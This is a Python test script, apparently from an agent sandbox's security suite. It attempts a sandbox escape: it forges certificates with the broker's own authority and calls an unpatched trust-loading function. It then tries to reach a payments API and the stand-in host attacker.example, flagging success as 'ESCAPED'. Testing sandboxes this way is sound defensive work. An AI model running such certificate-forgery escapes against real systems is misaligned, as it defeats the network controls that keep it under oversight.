# attack: it makes a certificate for any host with a key of its own, shows it to the relay as a client and trusts it itself
# expect: broker
# validator: refused
import datetime
import socket
import ssl

from agentic.sandbox import guest_network

try:
    from agentic.broker.ca import Authority

    authority = Authority(datetime.datetime.now(datetime.UTC))
except Exception as error:
    print("no authority can be made here:", type(error).__name__, error)
    authority = None


def shown_to_the_relay(context):
    plain = socket.create_connection(("api.stripe.com", 443), 1)
    with context.wrap_socket(plain, server_hostname="api.stripe.com") as tls:
        tls.settimeout(1)
        tls.sendall(b"GET /v1/payouts HTTP/1.1\r\nHost: api.stripe.com\r\nConnection: close\r\n\r\n")
        answer = tls.recv(65536)
        print(answer[:20])
        if b" 200 " in answer[:20]:
            print("ESCAPED: the certificate opened a forbidden path", flush=True)


def trusted_for_another_server(context):
    for host, port in (("attacker.example", 443), ("127.0.0.1", @TCP_PORT@)):
        try:
            with socket.create_connection((host, port), 0.5) as plain:
                context.wrap_socket(plain, server_hostname=host)
                print("ESCAPED: a server of its own trust", host, flush=True)
        except OSError as error:
            print(host, error)


context = ssl.create_default_context()
if authority is not None:
    try:
        server = authority.server_context(["attacker.example", "api.stripe.com"])
        print("made", server)
        guest_network._original_load_verify_locations(context, cadata=authority.trust)
    except Exception as error:
        print(type(error).__name__, error)
for attempt in (shown_to_the_relay, trusted_for_another_server):
    try:
        attempt(context)
    except Exception as error:
        print(attempt.__name__, type(error).__name__, error)
